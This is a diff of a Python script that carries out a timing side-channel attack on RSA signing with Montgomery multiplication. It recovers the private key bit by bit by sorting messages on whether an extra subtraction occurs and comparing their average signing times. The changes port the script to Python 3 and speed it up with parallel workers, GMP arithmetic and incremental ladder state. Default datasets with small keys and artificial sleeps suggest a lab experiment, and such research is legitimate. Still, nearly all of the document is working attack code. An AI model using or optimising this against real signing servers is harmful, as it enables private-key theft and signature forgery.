@@ -1,123 +1,155 @@
 from pprint import pprint
 import csv
-import math
 from random import randint
-from multiprocessing import Process, Queue
+from multiprocessing import Pool
 import sys
+import numpy as np
+try:
+	from gmpy2 import mpz
+except ImportError:
+	mpz = int
+try:
+	from _rsa_sim import do_sim_step # optional GMP extension, see setup.py
+except ImportError:
+	do_sim_step = None
+# When built, the extension is preferred over gmpy2: on 20k messages it ran one round
+# about 7x faster at 34 bits, 2.5x at 700 bits and 1.4x at 2048 bits.
+use_gmp_ext = do_sim_step is not None
+
+numProcs = 8
+# (n, n', r, k) of the attacked key and the messages in Montgomery form, set in each worker by _init_worker.
+_WORKER_STATE = None
 
 def ModInverse(a, n):
 	""" Calculates the modular inverse of a mod n.
-		http://www.wikiwand.com/en/Extended_Euclidean_algorithm#/Modular_integers
+		Uses the extended Euclidean algorithm built into pow() (Python >= 3.8).
 	"""
-	(t, new_t, r, new_r) = 0, 1, int(n), int(a)
-	while new_r != 0:
-		quotient = r//new_r
-		(t, new_t) = (new_t, t - quotient * new_t)
-		(r, new_r) = (new_r, r - quotient * new_r)
-	if r > 1:
-		raise ArithmeticError("ERROR: %d is not invertible modulo %d. \n r was: %d, new_r was %d " % (a, n, r, new_r))
-	if t < 0:
-		t = t + n
-	return t
-
-def MongomeryProduct(a, b,n,nprime,r):
-	""" Montgomery product."""
+	try:
+		return pow(int(a) % int(n), -1, int(n))
+	except ValueError:
+		raise ArithmeticError("ERROR: %d is not invertible modulo %d." % (a, n))
+
+def MongomeryProduct(a, b,n,nprime,r_mask,k):
+	""" Montgomery product. r = 2^k, so mod r is a mask and /r is a shift."""
 	t = a * b
-	m = t * nprime % r
-	u = (t + m*n)/r
+	m = (t * nprime) & r_mask
+	u = (t + m*n) >> k
 	return (u-n,True) if (u >= n) else (u,False)
 
-def rsa(m, d, n, nPrime, r):
+def rsa(m, d, n, nPrime, r, k_r):
 	""" Sign a message using the provided key.
 		This is used to detect whether we have guessed the correct key.
 		We sign a random message from the data set, and if we end up with a
 		signature that matches the corresponding signature in the data set,
 		we are done.
 	"""
+	n, nPrime = mpz(n), mpz(nPrime)
+	r_mask = r - 1
 	mm = (m*r)%n
 	x_bar = (1*r)%n
 	k = len(d)
 	sub_count = 0
+	# MongomeryProduct is inlined below to avoid the call overhead in the ladder.
 	for i in range(0, k):
 		sub = False
-		x_bar, tmp = MongomeryProduct(x_bar,x_bar, n, nPrime, r)
+		_t = x_bar*x_bar
+		_m = (_t*nPrime) & r_mask
+		_u = (_t + _m*n) >> k_r
+		x_bar = _u-n if _u >= n else _u
 		if d[i]=='1':
-			x_bar, sub = MongomeryProduct(mm, x_bar, n, nPrime, r)
+			_t = mm*x_bar
+			_m = (_t*nPrime) & r_mask
+			_u = (_t + _m*n) >> k_r
+			sub = _u >= n
+			x_bar = _u-n if sub else _u
 
 		sub_count += int(sub)
-	x, tmp = MongomeryProduct(x_bar, 1, n, nPrime, r)
+	x, tmp = MongomeryProduct(x_bar, 1, n, nPrime, r_mask, k_r)
 	return x, sub_count
 
 
-def rsa_sim(m, d, n, nPrime, r, j):
-	""" Simulates rsa signing with the current derived key.
-		Calculates whether a subtraction was made during step4
-		in the final Montgomery multiplication. 
+def _init_worker(n, nPrime, r, k, mms):
+	""" Stores the Montgomery constants and the messages in Montgomery form in a
+		worker process, so they are not sent along with every chunk of messages.
 	"""
-	mm = (m*r)%n
-	x_bar = (1*r)%n
-	k = len(d)
-	dd = d[:j]
-	dd += '1'
-	k = len(dd)
-	sub = False
-	for i in range(0, k):
-		x_bar, tmp = MongomeryProduct(x_bar,x_bar, n, nPrime, r)
-		#sub = True
-		if dd[i]=='1':
-			x_bar, sub = MongomeryProduct(mm, x_bar, n, nPrime, r)
-			#print sub
-	x, tmp = MongomeryProduct(x_bar, 1, n, nPrime, r)
-	return x, sub
-
-def do_sim(q_t, q_f, mlist, d, n, nPrime, r, bit):
-	t = []
-	f = []
-	for m in mlist:
-		c, bucket = rsa_sim(m[0], d, n, nPrime, r, bit)
-		if bucket:
-			t.append(m)
-		else:
-			f.append(m)
-	q_t.put(t)
-	q_f.put(f)
-
-def split_messages(d, n, nPrime, r, bit,data):
-	""" Splits a data set based on the subtraction in montgomery exponentiation."""
-	mlist = data
-	q_t = Queue()
-	q_f = Queue()
-	processes = []
-	start = 0
-	numProcs = 8
-	NP = 0
-	chunk = len(mlist)//numProcs
-	while start < len(mlist):
-		p = Process(target=do_sim, args=(q_t, q_f, mlist[start:start+chunk], d, n, nPrime, r, bit))
-		NP += 1
-		p.start()
-		start += chunk
-		processes.append(p)
-	
-	m_true = []
-	m_false = []
-	for i in range(NP):
-		m_true += q_t.get()
-		m_false += q_f.get()
-
-	while processes:
-		processes.pop().join()
-	return (m_true, m_false)
+	global _WORKER_STATE
+	_WORKER_STATE = (mpz(n), mpz(nPrime), mpz(r), k, mms)
+
+def do_sim_chunk(start, stop, x_bars):
+	""" Simulates rsa signing of each message with the current derived key.
+		The derived key only grows by one bit per round, so instead of running
+		the whole ladder again, the state after the bits derived so far is kept in
+		x_bars and advanced by one step, guessing that the next bit is 1.
+		x_bars belong to the messages start:stop of the data set.
+		Returns whether a subtraction was made during step4 in this final
+		Montgomery multiplication, and the states after the squaring (next bit 0)
+		and after the multiplication (next bit 1).
+	"""
+	n, nPrime, r, k_r, mms = _WORKER_STATE
+	mms = mms[start:stop]
+	if use_gmp_ext:
+		subs, x_sq, x_mul = do_sim_step(mms, x_bars, format(int(n), 'x'), format(int(nPrime), 'x'), k_r)
+		width = mms.shape[1]
+		return (np.frombuffer(subs, dtype=np.bool_),
+				np.frombuffer(x_sq, dtype=np.uint8).reshape(-1, width),
+				np.frombuffer(x_mul, dtype=np.uint8).reshape(-1, width))
+	r_mask = r - 1
+	count = len(mms)
+	subs = np.empty(count, dtype=np.bool_)
+	x_sq = np.empty(count, dtype=object)
+	x_mul = np.empty(count, dtype=object)
+	# MongomeryProduct is inlined below to avoid the call overhead in the loop.
+	for i in range(count):
+		mm, x_bar = mms[i], x_bars[i]
+		_t = x_bar*x_bar
+		_m = (_t*nPrime) & r_mask
+		_u = (_t + _m*n) >> k_r
+		x_bar = _u-n if _u >= n else _u
+		x_sq[i] = x_bar
+		_t = mm*x_bar
+		_m = (_t*nPrime) & r_mask
+		_u = (_t + _m*n) >> k_r
+		sub = _u >= n
+		x_mul[i] = _u-n if sub else _u
+		subs[i] = sub
+	return (subs, x_sq, x_mul)
+
+def to_limbs(values, k):
+	""" Packs integers below 2^k into the row layout of the GMP extension:
+		one row of (k + 63) // 64 little-endian 64-bit words per value, as an uint8 array.
+	"""
+	width = (k + 63) // 64 * 8
+	packed = b''.join(int(v).to_bytes(width, 'little') for v in values)
+	return np.frombuffer(packed, dtype=np.uint8).reshape(-1, width)
+
+def chunks(count, n):
+	""" Splits range(count) into n consecutive (start, stop) chunks of roughly equal size."""
+	size = -(-count // n)
+	return [(i, min(i+size, count)) for i in range(0, count, size)]
+
+def split_messages(x_bars, data, pool):
+	""" Splits a data set based on the subtraction in montgomery exponentiation.
+		Also returns the next ladder states of the messages for either value of the next bit,
+		see do_sim_chunk.
+	"""
+	# The squarings cannot be shared between messages: each state is mm^prefix in
+	# Montgomery form, so it depends on the message. Carrying x_bars between rounds
+	# keeps the work at two Montgomery products per message and bit.
+	results = pool.starmap(do_sim_chunk, [(start, stop, x_bars[start:stop]) for start, stop in chunks(len(data), numProcs)])
+	mask = np.concatenate([res[0] for res in results])
+	x_sq = np.concatenate([res[1] for res in results])
+	x_mul = np.concatenate([res[2] for res in results])
+	return (data[mask], data[~mask], x_sq, x_mul)
 
 def nPrime(n):
 	""" Calculates r^{-1} and n' as used in Montgomery exponentiation"""
 	# n is a k-bit number.
 	# r should be 2^k
-	k = math.floor(math.log(int(n), 2)) + 1
-	r = int(math.pow(2, k))
+	k = int(n).bit_length()
+	r = 1 << k
 	rInverse = ModInverse(r, n)
 	nPrime = (r * rInverse -1) // n
-	return (r, nPrime)
+	return (mpz(r), mpz(nPrime), k)
 
 def RSAAttack(n,data, ratio):
 
@@ -126,47 +158,58 @@ def RSAAttack(n,data, ratio):
 		The data set should contain a list of messages, their signatures, and the time the server took
 		to sign that message.
 	"""
-	(r, n_prime) = nPrime(n)
-	# Assume First bit of key is 1
-	newkey = '1'
-	bit = 1
-	finished = False
-	while(not finished):
-		# Split the data set into two groups, based on subtraction in Montgomery.
-		(m_true, m_false) = split_messages(newkey, n, n_prime, r, bit, data)
-		# Write the two sets to csv files so they can be plotted or analyzed further
-		with open(path+'/'+'%04d'%bit+'.dat', 'w') as f: # 0001.csv 0002.csv etc. One csv for each bit.
-			f.write("message,signature,duration,step4\n")
-			for el in m_true:
-				f.write("%s,1\n" % ','.join(map(str, el)))
-			for el in m_false:
-				f.write("%s,2\n" % ','.join(map(str, el)))
-
-		# Calculate average signing time for each set
-		avg = lambda items: float(sum(items)) / len(items)
-		tavg = map(avg, zip(*m_true))[2]
-		favg = map(avg, zip(*m_false))[2]
-
-		print "Ratio: \t",tavg/favg, "\tDifference:", abs(tavg-favg)
-
-		# Guess bit based on ratio between the average times
-		if abs(tavg-favg) > ratio:
-			newkey += '1'
-			print "Guessing next bit is 1."
-		else:
-			newkey += '0'
-			print "Guessing next bit is 0."
-		print "Derived key: ", newkey
-
-		testMessage1 = data[0][0]
-		testMessage2 = data[1][0]
-		# Check if we found the correct key, or should continue 
-		signMessage1, c = rsa(testMessage1, str(newkey), n, n_prime, r)
-		signMessage2, c = rsa(testMessage2, str(newkey), n, n_prime, r)	
-		if signMessage1==data[0][1] and signMessage2 == data[1][1]:
-			print "Guessed Correctly! Private key is: \t", newkey
-			finished = True
-		bit+=1 # go to next bit.
+	(r, n_prime, k) = nPrime(n)
+	data = np.array(data, dtype=object)
+	# Messages in Montgomery form
+	mms = np.array([(m*r)%mpz(n) for m in data[:, 0]], dtype=object)
+	if use_gmp_ext:
+		mms = to_limbs(mms, k)
+	with Pool(numProcs, initializer=_init_worker, initargs=(n, n_prime, r, k, mms)) as pool: # terminated on every exit path
+		# Assume First bit of key is 1
+		newkey = '1'
+		# Ladder state of each message after the derived key, i.e. mm after the first bit
+		x_bars = mms
+		bit = 1
+		finished = False
+		while(not finished):
+			# Split the data set into two groups, based on subtraction in Montgomery.
+			(m_true, m_false, x_sq, x_mul) = split_messages(x_bars, data, pool)
+			# Write the two sets to csv files so they can be plotted or analyzed further
+			with open(path+'/'+'%04d'%bit+'.dat', 'w', buffering=1<<20, newline='') as f: # 0001.csv 0002.csv etc. One csv for each bit.
+				w = csv.writer(f, lineterminator='\n')
+				# Messages and signatures are written in hex, which is linear time for big ints.
+				w.writerow(('message_hex','signature_hex','duration','step4'))
+				w.writerows((format(m[0], 'x'), format(m[1], 'x'), m[2], 1) for m in m_true)
+				w.writerows((format(m[0], 'x'), format(m[1], 'x'), m[2], 2) for m in m_false)
+
+			# Calculate average signing time for each set
+			if len(m_true) == 0 or len(m_false) == 0:
+				raise ValueError("All messages ended up in one set at bit %d, can not compare average times." % bit)
+			tavg = m_true[:, 2].astype(np.float64).mean()
+			favg = m_false[:, 2].astype(np.float64).mean()
+
+			print("Ratio: \t",tavg/favg, "\tDifference:", abs(tavg-favg))
+
+			# Guess bit based on ratio between the average times
+			if abs(tavg-favg) > ratio:
+				newkey += '1'
+				x_bars = x_mul
+				print("Guessing next bit is 1.")
+			else:
+				newkey += '0'
+				x_bars = x_sq
+				print("Guessing next bit is 0.")
+			print("Derived key: ", newkey)
+
+			testMessage1 = data[0][0]
+			testMessage2 = data[1][0]
+			# Check if we found the correct key, or should continue 
+			signMessage1, c = rsa(testMessage1, str(newkey), n, n_prime, r, k)
+			signMessage2, c = rsa(testMessage2, str(newkey), n, n_prime, r, k)	
+			if signMessage1==data[0][1] and signMessage2 == data[1][1]:
+				print("Guessed Correctly! Private key is: \t", newkey)
+				finished = True
+			bit+=1 # go to next bit.
 
 if __name__ == "__main__":
 	""" Read in a .csv file containing a list of messages, signatures, and the duration of the signing operation.
@@ -179,12 +222,12 @@ if __name__ == "__main__":
 	else:
 		path = 'output/2ms_sleep_33bit_key'
 		difference = 4500000
-		print "usage: python RSAAttack.py <path/to/dataset> <difference>"
-		print "the data should be in a file called data.csv, in the path given."
-		print " <difference> is the difference in nanoseconds between trueSet and falseSet required to guess that the bit is 1."
-		print "using defaults:", path, difference
+		print("usage: python RSAAttack.py <path/to/dataset> <difference>")
+		print("the data should be in a file called data.csv, in the path given.")
+		print(" <difference> is the difference in nanoseconds between trueSet and falseSet required to guess that the bit is 1.")
+		print("using defaults:", path, difference)
 	
-	with open(path+'/data.csv', 'rb') as f:
+	with open(path+'/data.csv', 'r') as f:
 		_ = f.readline() # Ignore first line (which is a column description)
 		n, e = f.readline().split(',') # read in public key
 		n = int(n)
@@ -193,7 +236,7 @@ if __name__ == "__main__":
 		data = [[int(x) for x in line.split(',')] for line in f] # read in signature data.
 	# n = 97*103
 	# n = 1970929544600547009951195551285008926853396879274216401752268706841404681558486301260625047332466057195397288315196808109669482273081696371319566859742602315869521815253148612244617512958426682609530067
-	print "n: ", n, "difference cutoff: ", difference, "path:", path
+	print("n: ", n, "difference cutoff: ", difference, "path:", path)
 	# Differences found to be good:
 	# 10k_2ms_sleep_new_key: 4476826
 	# dataNoSleep: No luck :(